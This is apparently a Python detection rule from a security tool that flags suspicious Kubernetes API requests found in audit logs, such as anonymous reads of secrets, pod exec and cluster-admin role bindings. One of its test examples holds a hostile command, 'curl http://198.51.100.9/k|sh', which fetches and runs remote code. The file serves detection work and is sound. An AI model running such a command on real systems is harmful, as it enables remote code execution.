"""What a cluster's API server let strangers do, or was made to start, by its audit log."""

from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.commands_of_daemons import reason_of
from hemostat.detect.log_ins import is_public, observables_of, time_text
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import ApiRequest
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(
        en="The cluster's API let somebody do what nobody should", zh="集群 API 放行了异常操作"
    ),
    summary=Text(
        en="{account} from {address}: {done} ({count} request(s), {time}, {where}). {command}",
        zh="{account}（{address}）：{done}（{count} 次请求，{time}，{where}）。{command}",
    ),
    benign=Text(
        en="Installers make powerful pods and rights under an administrator's name; nobody works"
        " as system:anonymous.",
        zh="安装程序会以管理员身份创建高权限 Pod 与授权；但没有人会以 system:anonymous 身份操作。",
    ),
)
_ANONYMOUS = ("system:anonymous", "system:unauthenticated")
# What a server tells everybody: whether it lives, its version, its kinds of objects, its keys.
_FOR_ALL = (
    "/healthz",
    "/livez",
    "/readyz",
    "/version",
    "/.well-known",
    "/openid",
    "/favicon",
    "/openapi",
)
_DISCOVERY = ("/api", "/apis", "/")
_MAKES = ("create", "update", "patch", "delete", "deletecollection", "connect")
_WHEN = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)


def _asked(
    verb: str,
    resource: str,
    account: str = "system:anonymous",
    code: int = 200,
    uri: str = "",
    command: str = "",
    powers: tuple[str, ...] = (),
    address: str = "198.51.100.4",
) -> ApiRequest:
    return ApiRequest(
        source=Source(path=HostPath("/var/log/kubernetes/audit.log"), line=1),
        account=account,
        address=address,
        verb=verb,
        resource=resource,
        uri=uri or f"/api/v1/{resource}",
        code=code,
        command=command,
        powers=powers,
        time=_WHEN,
    )


_POD = "system:serviceaccount:default:default"


@check(
    "linux.cluster.strange-request",
    level=Level.HIGH,
    confidence=Level.HIGH,
    category="cluster_request",
    attack=("T1078.001", "T1190"),
    incident_types=("remote_control", "mining", "credential_leak"),
    texts=TEXTS,
    next=("keep-evidence", "isolate-host", "rotate-credentials", "find-entry"),
    by_hand="grep -aF {account} {place} | tail -50",
    examples=(
        fires(_asked("list", "secrets")),
        fires(_asked("create", "pods/exec", code=101)),
        fires(_asked("create", "clusterrolebindings", powers=("cluster_admin",))),
        fires(_asked("create", "pods/exec", _POD, code=101, command="sh -c id")),
        fires(
            _asked(
                "create",
                "daemonsets",
                "kubernetes-admin",
                command="sh -c curl http://198.51.100.9/k|sh",
            )
        ),
        quiet(_asked("get", "", uri="/healthz")),
        quiet(_asked("list", "secrets", code=403)),
        quiet(
            _asked(
                "get", "configmaps", uri="/api/v1/namespaces/kube-public/configmaps/cluster-info"
            )
        ),
        quiet(_asked("create", "daemonsets", "kubernetes-admin", powers=("privileged",))),
        quiet(_asked("create", "pods/exec", "kubernetes-admin", code=101, command="sh")),
        quiet(_asked("list", "secrets", "system:serviceaccount:vault:vault")),
    ),
)
def strange_request(requests: Iterable[ApiRequest]) -> Iterator[Claim]:
    """Requests of nobody that were answered; a default account or a fetched program that enters.

    What was refused is told by nothing here: every API server that is reached is asked.
    """
    found: dict[tuple[str, str, Level], list[ApiRequest]] = {}
    for request in requests:
        level = _level(request)
        if level is not None:
            found.setdefault((request.account, request.address, level), []).append(request)
    for (account, address, level), asked in found.items():
        yield _claim(account, address, level, asked)


def _level(request: ApiRequest) -> Level | None:
    if request.code >= 400 or request.code == 0:
        return None
    makes = request.verb in _MAKES
    if request.account in _ANONYMOUS:
        return _of_nobody(request, makes=makes)
    if not makes:
        return None
    if reason_of(request.command) and request.resource != "pods/exec":
        return Level.HIGH
    is_default = request.account.startswith("system:serviceaccount:") and request.account.endswith(
        ":default"
    )
    enters = request.resource in ("pods/exec", "pods/attach", "nodes/proxy")
    if is_default and (enters or request.powers):
        return Level.HIGH if is_public(request.address) or request.powers else Level.MEDIUM
    return None


def _of_nobody(request: ApiRequest, *, makes: bool) -> Level | None:
    path = request.uri.partition("?")[0].rstrip("/") or "/"
    if not request.resource and (path.startswith(_FOR_ALL) or path in _DISCOVERY):
        return None
    # Who may not log in asks whether it may; kubeadm shows every joiner this one object.
    if request.resource.startswith(("selfsubject", "tokenreviews", "certificatesigning")):
        return None
    if "cluster-info" in (request.name, path.rpartition("/")[2]):
        return None
    is_grave = makes or request.resource.startswith(("secrets", "pods", "nodes", "configmaps"))
    if not request.resource:
        return Level.LOW
    return Level.HIGH if is_grave else Level.MEDIUM


def _claim(account: str, address: str, level: Level, asked: list[ApiRequest]) -> Claim:
    first = asked[0]
    place = first.source.path
    times = [each.time for each in asked if each.time]
    resources = {each.resource for each in asked}
    made = [each for each in asked if each.verb in _MAKES]
    techniques = {
        "T1609": any(each.resource in ("pods/exec", "pods/attach") for each in asked),
        "T1610": any("exec" not in each.resource and each.command for each in made)
        or any(each.resource in ("pods", "daemonsets", "deployments") for each in made),
        "T1611": any(each.powers and each.powers != ("cluster_admin",) for each in made),
        "T1552.007": bool(resources & {"secrets"}),
        "T1098.006": any("rolebinding" in each.resource for each in made),
        "T1133": is_public(address),
    }
    done = ", ".join(
        f"{each.verb} {each.resource or each.uri}"
        + (f" [{' '.join(each.powers)}]" if each.powers else "")
        for each in asked[:8]
    )
    return Claim(
        subjects=(
            Subject("file", place),
            *((Subject("address", address),) if address else ()),
            Subject("account", account),
        ),
        because=tuple(asked[:8]),
        values={
            "account": account,
            "address": address or "?",
            "done": done,
            "count": str(sum(each.count for each in asked)),
            "time": time_text(min(times, default=None)),
            "where": f"{place}:{first.source.line}",
            "place": place,
            "command": " … ".join(each.command for each in asked if each.command)[:300],
        },
        level=level,
        attack=tuple(name for name, is_seen in techniques.items() if is_seen),
        observables=observables_of(address),
        first_seen=min(times, default=None),
        last_seen=max(times, default=None),
    )
